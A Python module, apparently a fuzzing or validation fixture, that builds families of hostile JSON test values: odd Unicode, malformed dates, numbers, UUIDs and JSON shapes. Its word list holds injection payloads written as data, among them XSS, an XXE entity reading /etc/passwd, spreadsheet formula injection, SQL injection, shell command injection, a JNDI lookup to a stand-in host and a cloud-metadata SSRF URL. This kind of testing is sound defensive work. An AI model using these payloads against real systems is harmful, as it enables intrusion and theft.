"""Whole families of hostile JSON values: characters, times, numbers, identities, words for machines, shapes."""

import json

CHARACTERS = {
    f"character {code:04X}": rf'"a\u{code:04x}b"'
    for code in (
        *range(0x02, 0x20), 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0x034F, 0x061C, 0x115F, 0x1680, 0x180E, 0x2000,
        0x200B, 0x200C,
        0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202C, 0x202D, 0x2060, 0x2066, 0x2069, 0x206F,
        0x3000,
        0x3164, 0xD7FF, 0xDBFF, 0xDC00, 0xDFFF, 0xE000, 0xF8FF, 0xFDD0, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC,
        0xFFFD,
        0xFFFE,
    )
}  # fmt: skip
TIMES = {
    f"time {text or 'of nothing'}": json.dumps(text)
    for text in (
        "2026-12-02T10:00:00.000z", "2026-12-02t10:00:00.000Z", "2026-12-02 10:00:00.000Z",
        "2026-12-02T10:00:00.0000Z",
        "2026-12-02T10:00:00.00Z", "2026-12-02T10:00:00,000Z", "2026-12-02T10:00Z", "2026-12-02T24:00:00.000Z",
        "2026-12-02T23:59:60.000Z", "2026-12-02T23:60:00.000Z", "2026-12-02T-1:00:00.000Z",
        "2026-13-01T10:00:00.000Z",
        "2026-00-01T10:00:00.000Z", "2026-12-00T10:00:00.000Z", "2027-02-29T10:00:00.000Z",
        "2028-02-29T10:00:00.000Z",
        "1969-12-31T23:59:59.999Z", "1970-01-01T00:00:00.000Z", "2038-01-19T03:14:08.000Z",
        "2262-04-12T00:00:00.000Z",
        "+12026-12-02T10:00:00.000Z", "-0001-12-02T10:00:00.000Z", "0000-01-01T00:00:00.000Z", "2026-W49-3",
        "2026-336",
        "20261202T100000Z", "2026-12-02T10:00:00.000+08:00", "2026-12-02T10:00:00.000+24:00", "2026-12-02",
        "02.12.2026",
        "2026-12-02T10:00:00.000-00:00", "2026-12-02T10:00:00.000Z ",
        "\uff12\uff10\uff12\uff16-12-02T10:00:00.000Z", "now", "0", "1764669600",
    )
}  # fmt: skip
NUMBERS = {
    f"number {text}": text
    for text in (
        "0", "1", "-2147483649", "2147483648", "4294967296", "9007199254740993", "-9007199254740993", "1e2",
        "1E2", "1e+2",
        "1e0", "0e9999999999", "-0e0", "0.1", "1e-7", "1.0000000000000001", "5e-324", "1.7976931348623157e308",
        "1.7976931348623159e308", "100000000000000000000000", "99999999999999999.99", "0.005", "-0.01",
        "+1", ".5", "1.", "1e", "1_000", "1,000", "0b1", "0o7", "1f", "\u0661", "1 2",
    )
}  # fmt: skip
IDENTITIES = {
    f"identity {text}": json.dumps(text)
    for text in (
        "0193a0b1000070008000000000000001", "urn:uuid:0193a0b1-0000-7000-8000-00000000a001",
        "0193a0b1-0000-7000-8000-00000000a00", "0193a0b1-0000-7000-8000-00000000a0011",
        "0193a0b1-0000-7000-8000-00000000a00g", "0193a0b1-0000-4000-8000-00000000a001",
        "0193a0b1-0000-7000-c000-00000000a001",
        "ffffffff-ffff-ffff-ffff-ffffffffffff", " 0193a0b1-0000-7000-8000-00000000a001", "-", "null",
        "undefined", "None",
        "11010519491231002X", "440304199001011234", "6222021234567890123", "13800138000",
    )
}  # fmt: skip
_FOR_MACHINES = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "<svg/onload=alert(1)>", "&lt;b&gt;", "<!--", "]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "=1+1", "+1+1", "-1+1",
    "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://a.invalid")', "=cmd|' /C calc'!A0", "' OR '1'='1",
    "1; SELECT pg_sleep(9)", "\\'; --", "admin'--", "%27", "%", "_", "%%", "\\", "\\\\", "{{config}}", "{0}",
    "%(name)s", "%n%n%n%n", "${jndi:ldap://a.invalid/x}", "$(id)", "`id`", "| id", "; id", "&& id",
    "..\\..\\x", "/dev/null", "CON", "file:///etc/passwd", "http://169.254.169.254/", "http://127.0.0.1:1/",
    "\r\nX-Header: 1", "\n\n", "a\tb", "Content-Type: text/html", "data:text/html,x", "*", "?", "[", "(",
    "(a+)+$", "true", "NaN", "Infinity", "1e9", "\u0131", "\u017f", "\u00df", "\u0130", "\ufb01", "\u00c5",
    "\u03a9", "Z\u0335a\u0338l\u0337g\u0336o\u0335",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001d7d8", "\u0660", "测试" * 50, "张\u3000三", "龘", "\u3402", "\U00020bb7",
)  # fmt: skip
WORDS = {f"words {number}": json.dumps(text) for number, text in enumerate(_FOR_MACHINES)}
SHAPES = {
    "32 deep": "[" * 32 + "]" * 32,
    "list of one text": '["a"]',
    "list of objects": '[{"a":1},{"a":1}]',
    "1001 keys": json.dumps({f"k{number}": number for number in range(1001)}),
    "key of 10000 letters": json.dumps({"k" * 10_000: 1}),
    "empty key": '{"":1}',
    "constructor": '{"constructor":{"prototype":{"a":1}}}',
    "operator": '{"$gt":""}',
    "keys in two forms": '{"\\u00e9":1,"e\\u0301":2}',
    "65536 letters": json.dumps("z" * 65_536),
    "256 letters": json.dumps("z" * 256),
    "121 signs": json.dumps("測" * 121),
    "4001 signs": json.dumps("試" * 4_001),
    "escaped slash": '"\\/"',
    "bad escape": '"\\x41"',
    "short escape": '"\\u12"',
    "text never closed": '"abc',
    "raw tab": '"a\tb"',
    "raw line end": '"a\nb"',
    "vertical tab between": "\x0b1",
    "no-break space between": "\u00a01",
    "two commas": "[1,,2]",
    "only a comma": "[,]",
    "colon": '{"a"}',
    "no quotes": "{a:1}",
    "capital true": "True",
    "Python none": "None",
    "undefined": "undefined",
    "minus": "-",
    "minus NaN": "-NaN",
}
FAMILIES = CHARACTERS | TIMES | NUMBERS | IDENTITIES | WORDS | SHAPES
